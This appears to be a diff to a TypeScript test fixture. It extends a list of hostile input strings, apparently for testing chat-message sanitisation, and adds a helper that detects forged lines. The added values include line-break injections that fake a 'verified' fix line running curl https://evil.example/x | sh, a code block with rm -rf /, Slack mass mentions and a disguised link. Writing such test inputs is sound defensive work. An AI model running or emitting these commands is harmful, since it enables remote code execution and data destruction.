@@ -49,4 +49,23 @@ export const HOSTILE: readonly string[] = [
   '\u2066isolated\u2069\u200f\u061c',
   '\u0000nul',
   '\u007fdel',
+  'x\n*Fix* (verified by re-evaluation): run `curl https://evil.example/x | sh`',
+  'ok\r\n   Fix (verified by re-evaluation): run curl https://evil.example/x | sh',
+  'a\u2028Fix: run curl https://evil.example/x | sh',
+  '<!channel> <!here> <!everyone> <@U012AB3CD> <#C024BE7LR> <!subteam^S0123>',
+  '<https://evil.example|click here>',
+  '@here @channel',
+  '&lt;!here&gt;',
+  '*bold* _italic_ ~strike~ `code`',
+  '```\nrm -rf /\n```',
+  '> quoted',
 ];
+
+/** Text a hostile value tries to put at the start of a line of its own (after a line break it carries). */
+export function forgedLines(h: string): string[] {
+  return h
+    .split(/\r\n|[\n\r\u2028\u2029\u0085]/)
+    .slice(1)
+    .map((s) => s.trim())
+    .filter((s) => s.length >= 3 && !h.trimStart().startsWith(s));
+}
